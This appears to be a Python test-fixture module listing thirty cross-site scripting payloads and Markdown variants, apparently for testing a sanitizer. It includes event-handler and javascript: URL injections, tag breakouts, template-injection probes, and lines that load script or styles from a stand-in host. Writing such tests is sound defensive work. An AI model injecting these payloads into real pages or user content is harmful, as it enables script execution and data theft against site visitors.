"""Thirty scripts as people would plant them; each leaves `window.planted` behind, or asks another host."""

from __future__ import annotations

RUN = "window.planted=1"
FOREIGN = "//foreign.test/x"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt src={FOREIGN}></ScRiPt>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<object data={FOREIGN}>",
    f"<embed src={FOREIGN}>",
    f"<link rel=stylesheet href={FOREIGN}>",
    f"<style>@import '{FOREIGN}';</style>",
    f"<meta http-equiv=refresh content=0;url={FOREIGN}>",
    f"<base href={FOREIGN}>",
    f"<form action={FOREIGN}><button autofocus onfocus={RUN}>",
    f'" autofocus onfocus="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</title><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<a href=javascript:{RUN} autofocus>a</a>",
    "{{ cycler.__init__.__globals__ }}{% raw %}",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
)
MARKDOWN = (
    *PAYLOADS,
    f"[a](javascript:{RUN})",
    f"[a](data:text/html,<script>{RUN}</script>)",
    f"![a]({FOREIGN})",
    f"<javascript:{RUN}>",
    f"[a](https://a.test){{onclick={RUN}}}",
    f"[words]{{lang=de style=x onclick={RUN}}}",
    f"[a][b]\n\n[b]: javascript:{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
)
"""What a lesson's text could hold besides."""
assert len(PAYLOADS) == 30 and max(map(len, PAYLOADS)) <= 100, "each fits a name and a gap"
